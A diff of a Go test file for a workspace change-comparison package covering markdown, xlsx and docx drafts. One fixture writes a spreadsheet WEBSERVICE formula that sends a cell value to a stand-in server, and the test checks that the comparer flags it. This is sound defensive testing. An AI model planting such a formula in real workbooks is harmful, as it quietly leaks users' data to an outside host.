@@ -1,12 +1,15 @@
 package content
 
 import (
+	"bytes"
 	"encoding/json"
 	"fmt"
-	"math/rand/v2"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
+	"github.com/agnes-data/da/document/docx"
 	"github.com/agnes-data/da/document/sheet"
 	"github.com/agnes-data/da/workspace"
 )
@@ -53,10 +56,13 @@ func TestDraftsAreCompared(t *testing.T) {
 	}
 	got := map[string]string{}
 	for _, c := range all {
-		got[c.File.Name] = fmt.Sprint(c.Content.Changes, c.Content.Problem)
+		for _, d := range c.Content.Changes {
+			got[c.File.Name] += fmt.Sprintf("{%s|%s|%s}", d.Place, d.Before, d.After)
+		}
+		got[c.File.Name] += c.Content.Problem
 	}
 	for name, want := range map[string]string{
-		"a.md": "[{line 2 two TWO} {line 4  new}]", "fresh.md": "[{line 1  hello}]", "gone.md": "[{line 1 bye }]", "book.xlsx": "[{May!B2 2.5 2.75} {May!B3 3 }]",
+		"a.md": "{line 2|two|TWO}{line 4||new}", "fresh.md": "{line 1||hello}", "gone.md": "{line 1|bye|}", "book.xlsx": "{May!B2|2.5|2.75}{May!B3|3|}",
 	} {
 		if got[name] != want {
 			t.Errorf("%s: %s, want %s", name, got[name], want)
@@ -64,26 +70,65 @@ func TestDraftsAreCompared(t *testing.T) {
 	}
 }
 
-// TestComparingIsRight makes random texts of others and applies what was found.
-func TestComparingIsRight(t *testing.T) {
-	for seed := range uint64(200) {
-		rnd := rand.New(rand.NewPCG(seed, 1)) //nolint:gosec // to be repeated
-		line := func() string { return string(rune('a' + rnd.IntN(4))) }
-		var a, b []string
-		for range rnd.IntN(12) {
-			a = append(a, line())
+// TestWhatTextsDoNotShowIsCompared holds that no change of an office file, a PDF
+// or a picture looks like none.
+func TestWhatTextsDoNotShowIsCompared(t *testing.T) {
+	w, ctx := open(t), t.Context()
+	for _, name := range []string{"header.docx", "small.xlsx"} {
+		data, err := os.ReadFile(filepath.Join("testdata", name))
+		if err != nil {
+			t.Fatal(err)
 		}
-		for range rnd.IntN(12) {
-			b = append(b, line())
+		if _, err := w.Put(ctx, workspace.PutRequest{Name: name}, bytes.NewReader(data)); err != nil {
+			t.Fatal(err)
 		}
-		var made []string
-		at := 0
-		for _, r := range runs(a, b) {
-			made = append(append(made, a[at:r[0]]...), b[r[2]:r[3]]...)
-			at = r[1]
+	}
+	draft := func(name string) *workspace.Workspace {
+		t.Helper()
+		d, err := w.Draft(name)
+		if err != nil {
+			t.Fatal(err)
 		}
-		if made = append(made, a[at:]...); strings.Join(made, "") != strings.Join(b, "") {
-			t.Fatalf("%v to %v gives %v", a, b, made)
+		return d
+	}
+	xlsx := func(name, ops string) {
+		t.Helper()
+		var list []sheet.Operation
+		if err := json.Unmarshal([]byte(ops), &list); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Xlsx(ctx, draft(name), Target{File: "small.xlsx"}, list); err != nil {
+			t.Fatal(err)
+		}
+	}
+	docx := func(name, search, replace string) {
+		t.Helper()
+		if _, err := Docx(ctx, draft(name), Target{File: "header.docx"}, []docx.Operation{{Op: docx.ReplaceText, Search: search, Replace: replace}}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	xlsx("formula", `[{"op":"set_cells","sheet":"Sum","cells":[{"cell":"B1","formula":"WEBSERVICE(\"http://192.0.2.1/?\"&Sales!B2)"}]}]`)
+	xlsx("table", `[{"op":"delete_sheet","sheet":"Tab"}]`)
+	docx("header", "Header of ACME", "Header of BETA")
+	docx("comment", "Please check", "Approved")
+	for name, want := range map[string]string{
+		"formula": `{Sum!B1||=WEBSERVICE("http://192.0.2.1/?"&Sales!B2)}` +
+			"Sum!B1 has the function WEBSERVICE: a program that opens the workbook may send a request to a server; values of formulas may be from before this change: open the workbook in a program that calculates, and save it",
+		"table": "{Tab|sheet of 3 rows|}{table Revenue|Tab!A1:B3|}" +
+			`values of formulas may be from before this change: open the workbook in a program that calculates, and save it; 1 formula refers, the first in Sum!A1, to the deleted table "Revenue"`,
+		"header":  "{header|Header of ACME|Header of BETA}",
+		"comment": "{comment of A|Please check|Approved}",
+	} {
+		all, err := Changes(ctx, draft(name))
+		if err != nil || len(all) != 1 {
+			t.Fatal(all, err)
+		}
+		got := ""
+		for _, d := range all[0].Content.Changes {
+			got += fmt.Sprintf("{%s|%s|%s}", d.Place, d.Before, d.After)
+		}
+		if got += strings.Join(all[0].Content.Warnings, "; ") + all[0].Content.Problem; got != want {
+			t.Errorf("%s: %s\nwant %s", name, got, want)
 		}
 	}
 }
